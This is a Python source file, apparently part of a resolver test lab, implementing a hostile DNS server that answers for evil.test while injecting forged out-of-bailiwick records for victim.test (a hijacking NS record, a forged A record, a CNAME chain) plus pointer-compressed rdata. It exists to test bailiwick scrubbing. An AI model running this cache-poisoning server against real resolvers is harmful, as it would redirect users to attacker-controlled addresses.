#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""The lab's poisoning server: authoritative for one zone (evil.test), and it lies about another.

Every answer it gives for its own zone is well formed and authoritative, but it also carries
records for a zone it has no authority over (the victim, victim.test by default):

  * authority section: "victim.test. NS ns.evil.test." (an attempt to take the victim over);
  * additional section: "www.victim.test. A 198.18.66.66" and the glue "ns.evil.test. A ...";
  * for the name cname.evil.test, the answer itself is "CNAME www.victim.test." followed by the
    forged "www.victim.test. A 198.18.66.66", the classic way of slipping a foreign record into
    the answer section.

A resolver that scrubs by bailiwick keeps the evil.test data and drops every victim record, so
www.victim.test still resolves, through the victim's real server, to its real address.

Behaviour, in detail:
  * UDP only, on each --listen address, port 53 by default. Queries with QR set, runts (under 12
    bytes) and anything unparsable before the question are dropped silently; a malformed question
    (qdcount != 1, a compression pointer or a bad label in the qname, truncated) gets FORMERR; an
    opcode other than QUERY gets NOTIMP; a class other than IN gets REFUSED; a qname outside the
    zone gets REFUSED (no authority data of any kind then).
  * The ID, the RD bit and the question (with the client's letter case) are echoed.
  * EDNS(0), minimal: when the query has an OPT record, the reply has one (UDP size 1232, no
    options); an EDNS version above 0 gets BADVERS. The reply is cut to the client's UDP size
    (512 without EDNS, at most 1232) by sending the header and question alone with TC set.
  * In the zone: SOA and NS at the apex, A and AAAA at every name (wildcard-like), NODATA with
    the SOA for other types. All TTLs are --ttl.
  * Also at every name: MX, RP, AFSDB, SRV and NAPTR records whose rdata names are compressed
    against the question (pointers to offset 12), as RFC 1035 servers compressed them and
    RFC 3597 4 tells receivers to expect: a resolver that caches such rdata as it came, pointers
    and all, hands its clients corrupt records. For NAME: MX 10 mail.NAME, RP admin.NAME NAME,
    AFSDB 1 afs.NAME, SRV 10 5 5060 sip.NAME, NAPTR 100 10 "U" "E2U+sip" "" _sip._udp.NAME.
  * SIGTERM and SIGINT end it cleanly (exit status 0); its pid file is removed on the way out.

Usage: evil_responder.py --listen ADDR [--listen ADDR ...] [--port 53] [--zone evil.test]
           [--victim victim.test] [--pidfile FILE] [--logfile FILE]
"""

import argparse
import ipaddress
import os
import selectors
import signal
import socket
import struct
import sys
import time

TYPE_A, TYPE_NS, TYPE_CNAME, TYPE_SOA, TYPE_AAAA, TYPE_OPT = 1, 2, 5, 6, 28, 41
TYPE_MX, TYPE_RP, TYPE_AFSDB, TYPE_SRV, TYPE_NAPTR = 15, 17, 18, 33, 35
# The question's name: every reply this server builds starts it at offset 12.
QNAME_PTR = b"\xc0\x0c"
COMPRESSED = {
    TYPE_MX: struct.pack("!H", 10) + b"\x04mail" + QNAME_PTR,
    TYPE_RP: b"\x05admin" + QNAME_PTR + QNAME_PTR,
    TYPE_AFSDB: struct.pack("!H", 1) + b"\x03afs" + QNAME_PTR,
    TYPE_SRV: struct.pack("!HHH", 10, 5, 5060) + b"\x03sip" + QNAME_PTR,
    TYPE_NAPTR: (struct.pack("!HH", 100, 10) + b"\x01U" + b"\x07E2U+sip" + b"\x00" +
                 b"\x04_sip\x04_udp" + QNAME_PTR),
}
CLASS_IN = 1
RCODE_NOERROR, RCODE_FORMERR, RCODE_NOTIMP, RCODE_REFUSED = 0, 1, 4, 5
EXT_RCODE_BADVERS = 16
EDNS_SIZE = 1232


class Malformed(Exception):
    pass


def read_qname(msg, off):
    """Reads an uncompressed name at off: returns (lower-case labels, original wire, new off)."""
    labels = []
    start = off
    while True:
        if off >= len(msg):
            raise Malformed("qname runs past the end")
        n = msg[off]
        if n & 0xC0:
            raise Malformed("compression pointer or extended label in the question")
        off += 1
        if n == 0:
            break
        if off + n > len(msg):
            raise Malformed("label runs past the end")
        labels.append(msg[off:off + n].lower())
        off += n
        if off - start > 255:
            raise Malformed("qname longer than 255 bytes")
    return labels, msg[start:off], off


def name_wire(name):
    out = b""
    for label in name.rstrip(".").split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def rr(owner_wire, rtype, ttl, rdata):
    return owner_wire + struct.pack("!HHIH", rtype, CLASS_IN, ttl, len(rdata)) + rdata


class Responder:
    def __init__(self, args):
        self.zone = [l.encode().lower() for l in args.zone.rstrip(".").split(".")]
        self.zone_name = args.zone.rstrip(".") + "."
        self.victim = args.victim.rstrip(".") + "."
        self.ttl = args.ttl
        self.ns_name = "ns." + self.zone_name
        self.addr4 = ipaddress.IPv4Address(args.address4).packed
        self.addr6 = ipaddress.IPv6Address(args.address6).packed
        self.ns_addrs = [ipaddress.ip_address(a) for a in args.listen]
        self.forged = ipaddress.IPv4Address(args.forged).packed
        self.log = args.log
        self.count = 0

    def in_zone(self, labels):
        n = len(self.zone)
        return len(labels) >= n and labels[len(labels) - n:] == self.zone

    def soa(self):
        rdata = (name_wire(self.ns_name) + name_wire("hostmaster." + self.zone_name) +
                 struct.pack("!IIIII", 1, 3600, 900, 604800, self.ttl))
        return rr(name_wire(self.zone_name), TYPE_SOA, self.ttl, rdata)

    def poison(self):
        """The out-of-bailiwick records every answer carries: (authority, additional)."""
        authority = [rr(name_wire(self.victim), TYPE_NS, self.ttl, name_wire(self.ns_name))]
        additional = [rr(name_wire("www." + self.victim), TYPE_A, self.ttl, self.forged)]
        for a in self.ns_addrs:
            t = TYPE_A if a.version == 4 else TYPE_AAAA
            additional.append(rr(name_wire(self.ns_name), t, self.ttl, a.packed))
        return authority, additional

    def answer(self, labels, qname_wire, qtype):
        """Returns (rcode, aa, answer, authority, additional) for an IN question."""
        if not self.in_zone(labels):
            return RCODE_REFUSED, False, [], [], []
        authority, additional = self.poison()
        apex = len(labels) == len(self.zone)
        if labels[:1] == [b"cname"] and len(labels) == len(self.zone) + 1:
            target = name_wire("www." + self.victim)
            ans = [rr(qname_wire, TYPE_CNAME, self.ttl, target)]
            if qtype in (TYPE_A, 255):
                ans.append(rr(target, TYPE_A, self.ttl, self.forged))
            return RCODE_NOERROR, True, ans, authority, additional
        if qtype == TYPE_A:
            ans = [rr(qname_wire, TYPE_A, self.ttl, self.addr4)]
        elif qtype == TYPE_AAAA:
            ans = [rr(qname_wire, TYPE_AAAA, self.ttl, self.addr6)]
        elif qtype in COMPRESSED:
            ans = [rr(qname_wire, qtype, self.ttl, COMPRESSED[qtype])]
        elif qtype == TYPE_NS and apex:
            ans = [rr(qname_wire, TYPE_NS, self.ttl, name_wire(self.ns_name))]
        elif qtype == TYPE_SOA and apex:
            ans = [self.soa()]
        else:
            # NODATA: the SOA leads the authority section, the forged NS follows it.
            return RCODE_NOERROR, True, [], [self.soa()] + authority, additional
        return RCODE_NOERROR, True, ans, authority, additional

    def handle(self, msg):
        """Returns the reply to one datagram, or None to stay silent."""
        if len(msg) < 12:
            return None
        qid, flags, qdcount, ancount, nscount, arcount = struct.unpack("!HHHHHH", msg[:12])
        if flags & 0x8000:
            return None
        opcode = (flags >> 11) & 0xF
        rd = flags & 0x0100
        question = b""
        labels = None
        qtype = qclass = 0
        rcode = None
        edns = None  # (udp size, version) of the query's OPT
        try:
            if qdcount != 1:
                raise Malformed("qdcount %d" % qdcount)
            labels, qname_wire, off = read_qname(msg, 12)
            if off + 4 > len(msg):
                raise Malformed("question truncated")
            qtype, qclass = struct.unpack("!HH", msg[off:off + 4])
            question = msg[12:off + 4]
            off += 4
            # EDNS: an OPT record with the root owner, right after the question (answer and
            # authority sections are empty in any sane query; skip them if not).
            if ancount == 0 and nscount == 0 and arcount >= 1 and off + 11 <= len(msg):
                if msg[off] == 0:
                    otype, osize, ottl = struct.unpack("!HHI", msg[off + 1:off + 9])
                    if otype == TYPE_OPT:
                        edns = (max(osize, 512), (ottl >> 16) & 0xFF)
        except Malformed:
            rcode = RCODE_FORMERR
        if rcode is None and opcode != 0:
            rcode = RCODE_NOTIMP
        ext_rcode = 0
        if rcode is None and edns is not None and edns[1] != 0:
            rcode, ext_rcode = RCODE_NOERROR, EXT_RCODE_BADVERS
        aa = False
        ans, auth, add = [], [], []
        if rcode is None:
            if qclass != CLASS_IN:
                rcode = RCODE_REFUSED
            else:
                rcode, aa, ans, auth, add = self.answer(labels, qname_wire, qtype)
        limit = 512 if edns is None else min(edns[0], EDNS_SIZE)
        opt = b""
        if edns is not None:
            # The OPT TTL's top byte holds the upper 8 bits of the 12-bit rcode.
            opt = b"\0" + struct.pack("!HHIH", TYPE_OPT, EDNS_SIZE, (ext_rcode >> 4) << 24, 0)
        qd = 1 if question else 0

        def build(tc, ans, auth, add):
            f = 0x8000 | (opcode << 11) | rd | (0x0400 if aa else 0) | (0x0200 if tc else 0)
            f |= rcode & 0xF
            hdr = struct.pack("!HHHHHH", qid, f, qd, len(ans), len(auth),
                              len(add) + (1 if opt else 0))
            return hdr + question + b"".join(ans) + b"".join(auth) + b"".join(add) + opt

        out = build(False, ans, auth, add)
        if len(out) > limit:
            out = build(True, [], [], [])
        self.count += 1
        if self.log:
            name = b".".join(labels).decode("ascii", "replace") + "." if labels is not None else "?"
            self.log.write("%s query %s type %d -> rcode %d, %d bytes\n" %
                           (time.strftime("%H:%M:%S"), name, qtype, rcode | ext_rcode, len(out)))
            self.log.flush()
        return out


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--listen", action="append", required=True, help="address to serve on")
    p.add_argument("--port", type=int, default=53)
    p.add_argument("--zone", default="evil.test")
    p.add_argument("--victim", default="victim.test")
    p.add_argument("--forged", default="198.18.66.66", help="the victim address it claims")
    p.add_argument("--address4", default="198.18.4.200", help="A of every name in the zone")
    p.add_argument("--address6", default="2001:2:0:4::200", help="AAAA of every name")
    p.add_argument("--ttl", type=int, default=300)
    p.add_argument("--pidfile")
    p.add_argument("--logfile")
    args = p.parse_args()
    args.log = open(args.logfile, "a") if args.logfile else None

    sel = selectors.DefaultSelector()
    socks = []
    for a in args.listen:
        fam = socket.AF_INET6 if ":" in a else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.bind((a, args.port))
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        socks.append(s)
    resp = Responder(args)

    stop = []

    def on_signal(signum, frame):
        stop.append(signum)

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    if args.pidfile:
        with open(args.pidfile, "w") as f:
            f.write("%d\n" % os.getpid())
    if args.log:
        args.log.write("%s serving %s on %s port %d\n" % (time.strftime("%H:%M:%S"), args.zone,
                                                         " ".join(args.listen), args.port))
        args.log.flush()
    try:
        while not stop:
            for key, _ in sel.select(timeout=0.5):
                s = key.fileobj
                while True:
                    try:
                        msg, peer = s.recvfrom(65535)
                    except (BlockingIOError, InterruptedError):
                        break
                    except OSError:
                        break
                    try:
                        out = resp.handle(msg)
                    except Exception as e:  # never die on one packet
                        if args.log:
                            args.log.write("error on a packet from %s: %r\n" % (peer[0], e))
                            args.log.flush()
                        out = None
                    if out is not None:
                        try:
                            s.sendto(out, peer)
                        except OSError:
                            pass
    finally:
        for s in socks:
            s.close()
        if args.log:
            args.log.write("%s stopping after %d replies\n" % (time.strftime("%H:%M:%S"),
                                                               resp.count))
            args.log.close()
        if args.pidfile:
            try:
                os.unlink(args.pidfile)
            except OSError:
                pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
